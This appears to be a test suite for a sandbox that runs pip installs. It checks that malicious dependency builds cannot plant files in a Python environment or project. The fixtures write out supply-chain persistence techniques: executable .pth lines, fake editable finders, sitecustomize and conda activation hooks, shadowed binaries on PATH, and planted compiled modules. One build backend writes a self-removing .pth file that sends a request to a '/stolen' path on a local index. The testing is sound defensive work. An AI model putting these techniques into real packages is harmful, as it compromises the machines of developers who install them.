"""What is let through of Python's environments and editable installs, tried by a build of a dependency."""

import os
import sys
import sysconfig

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
from harness import test  # noqa: E402
from pypi_index import PypiIndex, wheel  # noqa: E402
from python_environment import make_environment  # noqa: E402

FACTS = {"rows": "A115", "stops": "commit", "event": "change.held|change.protected"}

PYTHON = "/usr/bin/python3"
SETUP = """\
import glob, os, sys
from setuptools import setup
project, site = {project!r}, glob.glob({environment!r} + '/lib/python3*/site-packages')[0]
{attack}
setup(name="evil", version="1.0", py_modules=["evil"])
"""


def links(what, script, path):
    def body(t):
        t.write(t.home / "tool/bin/tool", "#!/bin/sh\n", 0o755)
        t.succeeded(t.bare("sh", "-c", script))
        t.true(os.path.islink(t.project / path), "control")
        t.bare("rm", "-rf", path)
        result = t.sandbox("sh", "-c", script)
        t.true(not os.path.islink(t.project / path), result)
        t.true(any(path.startswith(e["details"].get("path", "?")) for e in result.of_type("change.held")), result)

    body.__doc__ = f"a link {what} is held"
    test(body)


links("to a program of the system where nobody calls it from",
      "mkdir dist; ln -s /usr/bin/python3 dist/app", "dist/app")
links("in bin to what is no program", "mkdir bin; ln -s /usr/share/common-licenses/GPL-3 bin/x; ls -L bin", "bin/x")
links("in bin to a program of the home", "mkdir bin; ln -s ~/tool/bin/tool bin/x", "bin/x")
links("in bin that comes back from the system's directories",
      'mkdir bin; ln -s "/usr/bin/../..$HOME/.bashrc" bin/x', "bin/x")
links("in bin to the home's start file", "mkdir bin; ln -s ~/.bashrc bin/x", "bin/x")


def build(what, attack, planted, *arguments):
    """`planted`: below site-packages, or with "project/" in the project."""

    def body(t):
        def place(of=t.project):
            if planted.startswith("project/"):
                return of / planted.removeprefix("project/")
            return next((of / ".venv/lib").glob("python3*")) / "site-packages" / planted

        index = PypiIndex()
        make_environment(t, ".venv")
        t.write("evil_dir/x.py", "")
        text = SETUP.format(project=str(t.project), environment=f"{t.project}/.venv", attack=attack)
        index.add_sdist("evil", {"setup.py": text, "evil.py": ""})
        env = {"PIP_INDEX_URL": index.url()}
        t.bare("cp", "-a", t.project, t.base / "copy")
        command = (f"{t.project}/.venv/bin/pip", "install", "--no-build-isolation", *arguments, "evil")
        t.succeeded(t.bare(*command, env=env))
        t.true(place().exists(), "control")
        t.bare("rm", "-rf", t.project)
        (t.base / "copy").rename(t.project)
        result = t.sandbox(*command, env=env, options=["--allow-host", f"localhost:{index.port}"])
        t.true(not place().exists(), result)
        # Not because the install failed: it went well, and what was planted has a reason of its own.
        t.succeeded(result)
        kept_back = result.of_type("change.held") + result.of_type("change.protected")
        names = os.path.normpath(planted.removeprefix("project/")).removeprefix("../../../").split("/")
        t.true("__pycache__" in names or any(set(names) & set(e["details"].get("path", "").split("/"))
                                             for e in kept_back), result.events)

    body.__doc__ = f"a dependency's build that plants {what} does not get it into the environment"
    test(body, one_by_day=True, time_limit=120, event="file.written" if "__pycache__" in planted else FACTS["event"])


FINDER = "__editable___evil_1_0_finder"
build("a finder that is not setuptools' own",
      f"open(site + '/{FINDER}.py', 'w').write('def install(): evil()')\n"
      f"open(site + '/__editable__.evil-1.0.pth', 'w').write('import {FINDER}; {FINDER}.install()')",
      "__editable__.evil-1.0.pth")
build("a .pth that leads out of the project",
      "open(site + '/evil.pth', 'w').write('/var/tmp\\n')", "evil.pth")
build("a .pth with a line that is run",
      "open(site + '/evil.pth', 'w').write(project + '\\nimport os; os.system(\"true\")\\n')", "evil.pth")
build("a module that Ubuntu's sitecustomize imports",
      "open(site + '/apport_python_hook.py', 'w').write('evil()')", "apport_python_hook.py")
build("a script that conda's activate runs", "at = site + '/../../../etc/conda/activate.d'; os.makedirs(at, exist_ok=True)\n"
      "open(at + '/x.sh', 'w').write('evil')", "../../../etc/conda/activate.d/x.sh")
build("an everyday program in bin", "open(site + '/../../../bin/tr', 'w').write('evil')", "../../../bin/tr")
build("a program of a name on PATH that no list has", "open(site + '/../../../bin/nproc', 'w').write('evil')",
      "../../../bin/nproc")
build("a link of such a name", "os.path.lexists(site + '/../../../bin/nproc') or "
      "os.symlink('../lib/evil', site + '/../../../bin/nproc')\n"
      "open(site + '/../../../lib/evil', 'w').write('evil')", "../../../bin/nproc")
build("a compiled finder", f"os.makedirs(site + '/__pycache__', exist_ok=True)\n"
      f"open(site + '/__pycache__/{FINDER}.cpython-311.pyc', 'w').write('evil')",
      f"__pycache__/{FINDER}.cpython-311.pyc")
build("what Python compiles of pip", "open(site + '/pip/__pycache__/x.cpython-311.pyc', 'w').write('evil')",
      "pip/__pycache__/x.cpython-311.pyc")
build("a compiled module that the project does not name",
      "open(project + '/json.cpython-311-x86_64-linux-gnu.so', 'w').write('evil')",
      "project/json.cpython-311-x86_64-linux-gnu.so")
build("a file in the project's own build directory",
      "os.makedirs(project + '/build/lib', exist_ok=True)\n"
      "open(project + '/build/lib/mine.py', 'w').write('evil')", "project/build/lib/mine.py")
build("metadata in the project's own egg-info", "os.makedirs(project + '/mine.egg-info', exist_ok=True)\n"
      "open(project + '/mine.egg-info/entry_points.txt', 'w').write('evil')", "project/mine.egg-info/entry_points.txt")
build("compiled files in the project", "os.makedirs(project + '/__pycache__', exist_ok=True)\n"
      "open(project + '/__pycache__/x.cpython-311.pyc', 'w').write('evil')",
      "project/__pycache__/x.cpython-311.pyc")


@test(time_limit=120)
def module_of_a_path_file(t):
    """a dependency's build that writes into what another one's .pth file imports does not get it into the environment"""
    index = PypiIndex()
    make_environment(t, ".venv")
    site = next(t.project.glob(".venv/lib/python3*/site-packages"))
    t.write(site / "cover.pth", "import os, sys; exec('from cover.embed import init')\n")
    t.write(site / "cover/embed.py", "def init(): pass\n")
    t.write(site / "cover/__init__.py", "")
    attack = "open(site + '/cover/embed.py', 'w').write('evil'); open(site + '/cover/more.py', 'w').write('evil')"
    index.add_sdist("evil", {"setup.py": SETUP.format(project=str(t.project), environment=f"{t.project}/.venv",
                                                      attack=attack), "evil.py": ""})
    t.bare("cp", "-a", ".venv", t.base / "copy")
    command, env = (f"{t.project}/.venv/bin/pip", "install", "--no-build-isolation", "evil"), {"PIP_INDEX_URL": index.url()}
    t.succeeded(t.bare(*command, env=env))
    t.equal((site / "cover/embed.py").read_text(), "evil", "control")
    t.bare("rm", "-rf", ".venv")
    (t.base / "copy").rename(t.project / ".venv")
    result = t.succeeded(t.sandbox(*command, env=env, options=["--allow-host", f"localhost:{index.port}"]))
    t.equal((site / "cover/embed.py").read_text(), "def init(): pass\n")
    t.true(not (site / "cover/more.py").exists(), result)
    held = {e["details"]["path"].split("/")[-1] for e in result.of_type("change.held")}
    t.true({"embed.py", "more.py"} <= held, result.events)


@test(time_limit=120)
def vendored_build_beside(t):
    """a directory of the project whose build puts a module into the build of another one beside it: it is not kept"""
    make_environment(t, ".venv")
    lib = t.home / "lib"
    t.write(lib / "setup.py", 'from setuptools import setup\nsetup(name="lib", version="1.0", py_modules=["lib"])\n')
    t.write(lib / "lib.py", "x = 1\n")
    door = lib / "build/lib/door.py"
    source = lib / "door.py"
    attack = (f"os.makedirs({str(door.parent)!r}, exist_ok=True); open({str(door)!r}, 'w').write('evil'); "
              f"open({str(source)!r}, 'w').write('evil')")
    t.write("vendored/setup.py", SETUP.format(project=str(t.project), environment=f"{t.project}/.venv", attack=attack))
    t.write("vendored/evil.py", "")
    command = (f"{t.project}/.venv/bin/pip", "install", "--no-build-isolation", "--no-deps", "-e", lib, "./vendored")
    t.bare("cp", "-a", t.project, t.base / "copy")
    t.succeeded(t.bare(*command))
    t.true(door.exists() and source.exists(), "control")
    t.bare("rm", "-rf", t.project, lib / "build", lib / "lib.egg-info", source)
    (t.base / "copy").rename(t.project)
    result = t.succeeded(t.sandbox(*command))
    t.true(not door.exists() and not source.exists(), result)
    kept_back = result.of_type("change.held") + result.of_type("change.protected")
    t.true(any("build" in e["details"].get("path", "").split("/") for e in kept_back), result.events)


@test(time_limit=120, event="none")
def wheel_with_compiled_pip(t):
    """a wheel that brings what Python compiles of pip does not get it into the environment"""
    index = PypiIndex()
    planted = "pip/__pycache__/__main__.cpython-399.pyc"
    index.add_file("evil-1.0-py3-none-any.whl", wheel("evil", {"evil.py": "", planted: "evil"}))
    make_environment(t, ".venv")
    t.bare("cp", "-a", ".venv", t.base / "copy")
    command, env = (f"{t.project}/.venv/bin/pip", "install", "evil"), {"PIP_INDEX_URL": index.url()}
    t.succeeded(t.bare(*command, env=env))
    t.true(list(t.project.glob(f".venv/lib/*/site-packages/{planted}")), "control")
    t.bare("rm", "-rf", ".venv")
    (t.base / "copy").rename(t.project / ".venv")
    t.succeeded(t.sandbox(*command, env=env, options=["--allow-host", f"localhost:{index.port}"]))
    t.true(list(t.project.glob(".venv/lib/*/site-packages/evil.py")), "installed")
    t.equal(list(t.project.glob(f".venv/lib/*/site-packages/{planted}")), [])


@test(time_limit=120)
def named_module_of_a_dependency(t):
    """a compiled module that setup.py names, planted by a dependency's build, is not run in the module's place"""
    index = PypiIndex()
    make_environment(t, ".venv")
    name = "speedy" + sysconfig.get_config_var("EXT_SUFFIX")
    t.write("setup.py", "from setuptools import Extension, setup\n"
            "setup(name='mine', version='1.0', ext_modules=[Extension('speedy', ['speedy.c'])])\n")
    t.write("speedy.c", "")
    t.write(name, "the user's own build\n")
    attack = f"open(project + '/{name}', 'w').write('evil')"
    index.add_sdist("evil", {"setup.py": SETUP.format(project=str(t.project), environment=f"{t.project}/.venv",
                                                      attack=attack), "evil.py": ""})
    env = {"PIP_INDEX_URL": index.url()}
    command = (f"{t.project}/.venv/bin/pip", "install", "--no-build-isolation", "evil")
    t.bare("cp", "-a", t.project, t.base / "copy")
    t.succeeded(t.bare(*command, env=env))
    t.equal((t.project / name).read_text(), "evil", "control")
    t.bare("rm", "-rf", t.project)
    (t.base / "copy").rename(t.project)
    result = t.sandbox(*command, env=env, options=["--allow-host", f"localhost:{index.port}"])
    t.equal((t.project / name).read_text(), "the user's own build\n", result)


BACKEND = """\
import glob, os, zipfile
PTH = glob.glob({environment!r} + '/lib/python3*/site-packages')[0] + '/evil.pth'
STEAL = "try: urllib.request.urlopen({url!r}, timeout=5)\\nexcept Exception: pass"
def get_requires_for_build_wheel(settings=None):
    with open(PTH, 'w') as file:
        file.write('import urllib.request; exec(' + repr(STEAL) + ')\\n')
    return ['pure']
def build_wheel(directory, settings=None, metadata=None):
    os.unlink(PTH)
    name, info = 'evil-1.0-py3-none-any.whl', 'evil-1.0.dist-info/'
    with zipfile.ZipFile(os.path.join(directory, name), 'w') as wheel:
        wheel.writestr(info + 'METADATA', 'Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n')
        wheel.writestr(info + 'WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
        wheel.writestr(info + 'RECORD', '')
    return name
"""
PYPROJECT = """\
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
"""


@test(time_limit=120, stops="attribution", event="flow.denied")
def a_build_that_acts_as_pip(t):
    """a build that leaves a .pth file for the pip that it makes start, and removes it: that pip is no package manager"""
    index = PypiIndex()
    make_environment(t, ".venv")
    backend = BACKEND.format(environment=f"{t.project}/.venv", url=index.url().replace("/simple/", "/stolen"))
    index.add_sdist("evil", {"pyproject.toml": PYPROJECT, "backend.py": backend})
    # Else the sandboxed pip takes the wheel that the control has built.
    env = {"PIP_INDEX_URL": index.url(), "PIP_NO_CACHE_DIR": "1"}
    command = (f"{t.project}/.venv/bin/pip", "install", "evil")
    t.bare(*command, env=env)
    t.true("/stolen" in index.requests, "control: the second pip has sent it")
    t.bare("rm", "-rf", ".venv")
    make_environment(t, ".venv")
    index.requests.clear()
    t.write(t.home / ".config/sandbox-run/config.toml",
            f'[[egress]]\nhost = "localhost"\nports = [{index.port}]\nfor = "package-manager"\n')
    result = t.sandbox(*command, env=env)
    t.true("/stolen" not in index.requests, result)
    refused = [e for e in result.of_type("flow.denied") + result.of_type("name.lookup")
               if e.get("actor", {}).get("kind") in ("build", "unknown")]
    t.true(refused, "it tried, and was refused as no package manager")
    t.true(any(path.startswith("/simple/evil") for path in index.requests), "pip itself reaches the index")
